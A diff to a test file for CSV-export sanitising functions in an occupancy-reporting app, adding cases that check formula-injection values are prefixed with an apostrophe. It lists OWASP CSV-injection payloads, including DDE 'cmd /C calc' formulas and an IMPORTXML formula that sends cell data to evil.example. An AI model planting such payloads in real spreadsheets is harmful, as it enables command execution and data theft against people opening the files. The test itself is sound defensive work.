@@ -11,8 +11,17 @@ describe('csvSafe', () => {
     ['@cmd', "'@cmd"],
     ['\tcalc', "'\tcalc"],
     ['\rcalc', "'\rcalc"],
+    ['\ncalc', "'\ncalc"],
+    // Full-width forms some spreadsheets read as formulas too, and formulas behind leading spaces an import may trim.
+    ['＝1+1', "'＝1+1"],
+    ['＋1', "'＋1"],
+    ['－1', "'－1"],
+    ['＠SUM(A1)', "'＠SUM(A1)"],
+    ['  =1+1', "'  =1+1"],
+    ['\u00a0@x', "'\u00a0@x"],
     ['Reading room', 'Reading room'],
     ['a=b', 'a=b'],
+    ['Room -1', 'Room -1'],
     ['', ''],
   ])('makes %j safe as %j', (value, expected) => {
     expect(csvSafe(value)).toBe(expected);
@@ -40,6 +49,29 @@ describe('toCsv', () => {
     expect(csv).toBe(BOM + 'name,value\r\n"a, b",-2\r\n"say ""hi""",3.5\r\n"line 1\nline 2",\r\n"\'=HYPERLINK(""x"")",0\r\n');
   });
 
+  it('quotes fields holding a semicolon or a tab, so a spreadsheet set to another separator cannot split one into a formula', () => {
+    expect(toCsv(['name'], [['Cafe;=1+1'], ['Cafe\t@x']], { bom: false })).toBe('name\r\n"Cafe;=1+1"\r\n"Cafe\t@x"\r\n');
+  });
+
+  it.each([
+    '=cmd|\' /C calc\'!A0',
+    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    '+HYPERLINK("http://evil.example","click")',
+    '-2+3+cmd|\' /C calc\'!A0',
+    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+    '\t=1+1',
+    '\r=1+1',
+  ])('neutralises the OWASP CSV-injection payload %j in a zone name', (payload) => {
+    const csv = zoneDaysCsv([{ date: '2026-03-14', floor: 'ground', zone: 'cafe', zoneName: payload, openHours: 8, meanOccupancy: -0, peak: 3, utilisation: 0.25, hoursAbove: 0, arrivals: 12 }], { bom: false });
+    const [, row] = csv.split('\r\n');
+    // The fourth field, unquoted by the CSV rules, starts with the apostrophe.
+    const field = /^2026-03-14,ground,cafe,("(?:[^"]|"")*"|[^,]*),/.exec(row!)![1]!;
+    const value = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
+    expect(value).toBe(`'${payload}`);
+    // The figures stay numbers.
+    expect(row!.endsWith(',8,0,3,0.25,0,12')).toBe(true);
+  });
+
   it('leaves the byte order mark out on request', () => {
     expect(toCsv(['a'], [['é']], { bom: false })).toBe('a\r\né\r\n');
   });
@@ -62,9 +94,9 @@ describe('recommendationsCsv', () => {
     expect(lines[1]).toBe(
       'crowded-beside-idle:reading,crowded-beside-idle,high,Open the group study rooms to quiet study at peak times,' +
         '"The Reading room was ≥ 85 % full for 62 of 243 open hours, mostly 13:00–17:00, while the Group study rooms next door averaged 18 % of their 24 places.",' +
-        'reading; group,No budget,Sign two of the four group rooms as quiet study from 13:00 to 17:00 on weekdays.,About 12 more quiet seats at the busiest time.,' +
+        '"reading; group",No budget,Sign two of the four group rooms as quiet study from 13:00 to 17:00 on weekdays.,About 12 more quiet seats at the busiest time.,' +
         'Hours above 85 %,reading,down,a third,4,' +
-        'Reading room: hours above 85 %: 62 h; Reading room: use of capacity: 71 %; Group study rooms: use of capacity: 18 %',
+        '"Reading room: hours above 85 %: 62 h; Reading room: use of capacity: 71 %; Group study rooms: use of capacity: 18 %"',
     );
     expect(lines[2]).toContain(',Low budget,');
     expect(lines[3]).toContain(',High budget,');
@@ -72,7 +104,7 @@ describe('recommendationsCsv', () => {
 
   it('neutralises a finding that starts with "="', () => {
     const row = lines.find((l) => l.startsWith('short-stays-at-study-desks:computers,'))!;
-    expect(row).toContain(",'=40 % of the sessions at the public computers");
+    expect(row).toContain(',"\'=40 % of the sessions at the public computers');
   });
 });
 
